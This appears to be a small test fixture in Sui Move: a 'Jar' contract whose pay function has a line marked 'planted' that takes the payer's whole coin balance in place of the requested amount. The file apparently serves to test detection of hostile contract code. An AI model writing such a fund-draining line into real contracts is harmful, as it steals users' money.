module hostile::takes_whole_coin;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(purse: &mut Coin<SUI>, jar: &mut Jar, amount: u64) {
    assert!(purse.value() >= amount);
    jar.money.join(purse.balance_mut().withdraw_all()); //! planted
    jar.money.join(purse.balance_mut().split(amount)); //! honest
}
